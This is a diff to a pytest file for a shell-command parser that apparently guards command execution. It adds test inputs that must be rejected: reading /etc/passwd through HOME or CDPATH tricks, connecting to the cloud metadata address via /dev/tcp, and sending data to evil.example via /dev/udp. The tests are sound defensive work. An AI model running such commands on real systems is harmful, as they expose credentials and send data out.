@@ -90,7 +90,22 @@ def test_leading_assignments_are_taken_off() -> None:
     (command,) = commands("A=1 B='x y' _c= prog D=2")
     assert command.assignments == (("A", "1"), ("B", "x y"), ("_c", ""))
     assert command.words == ("prog", "D=2")
-    assert commands("A=1")[0].words == ()
+    assert commands("LC_ALL=C")[0].words == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "HOME=/etc; cat ~/passwd",
+        "A=1",
+        "CDPATH=/; cd etc && cat passwd",
+        "CDPATH=/ cd etc && cat passwd",
+        "cat < /dev/tcp/169.254.169.254/80",
+        "echo x > /dev/udp/evil.example/53",
+    ],
+)
+def test_what_changes_the_shell_or_connects_by_it_is_unreadable(text: str) -> None:
+    assert isinstance(read_script(text), Unreadable)
     # A quoted name or `=` makes it a word.
     assert commands("'A'=1")[0].words == ("A=1",)
     assert commands("A'='1")[0].words == ("A=1",)
@@ -119,7 +134,6 @@ def test_a_command_knows_its_text() -> None:
         ("a | cd x && b", [(), (), None]),
         ("cd - && a", [(), None]),
         ("cd -P x && a", [(), None]),
-        ("CDPATH=/y cd x && a", [(), None]),
         ("pushd x && a", [(), None]),
     ],
 )
@@ -148,7 +162,7 @@ def test_some_commands_are_free(text: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["cd -", "cd x y", "true > f", "PATH=x true", "/bin/true", "echo", "> f", "A=1"]
+    "text", ["cd -", "cd x y", "true > f", "PATH=x true", "/bin/true", "echo", "> f", "LANG=C"]
 )
 def test_others_are_not(text: str) -> None:
     assert not commands(text)[0].free
